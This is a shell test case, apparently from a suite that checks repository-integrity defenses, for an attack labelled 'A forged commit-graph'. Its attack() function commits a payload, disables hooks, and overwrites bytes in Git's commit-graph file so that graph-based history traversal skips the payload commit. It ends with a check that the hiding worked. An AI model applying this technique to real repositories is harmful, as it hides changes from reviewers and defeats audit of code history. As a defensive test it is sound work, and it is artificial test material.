# H27 A forged commit-graph
# Git believes the parents that `objects/info/commit-graph` names: one byte of it leads past the payload.
#
# plain: lands
# hooks: found scope: unrecorded
# strict: found scope: unrecorded
# shadow: no effect

attack() {
	first=$(git rev-parse HEAD)
	echo evil > src/other.txt
	git -c core.hooksPath=/dev/null commit -qam 'Payload'
	git checkout -q "$first" -- src/other.txt
	git -c core.hooksPath=/dev/null commit -qam 'Fine work'
	above=$(git rev-parse HEAD)
	git -c core.hooksPath=/dev/null commit -q --allow-empty -m 'More fine work'
	git commit-graph write --reachable
	graph=.git/objects/info/commit-graph
	position() { git rev-list --all | sort | grep -n "$1" | cut -d: -f1; }
	# A header, the table of chunks, the fan-out, the names; then 36 bytes for each commit: its tree, its parents, ...
	chunks=$(od -An -tu1 -j6 -N1 "$graph")
	count=$(git rev-list --all --count)
	row=$((8 + 12 * (chunks + 1) + 1024 + 20 * count + 36 * ($(position "$above") - 1)))
	chmod u+w "$graph"
	printf "\\000\\000\\000\\$(printf %03o $(($(position "$first") - 1)))" |
		dd of="$graph" bs=1 seek=$((row + 20)) conv=notrunc 2>/dev/null
}

# Git with its graph does not come past the payload; git without it does.
landed() { in_history src/other.txt evil && [ "$(git -C "$REPO" rev-list --count "$BASE..main")" = 2 ]; }
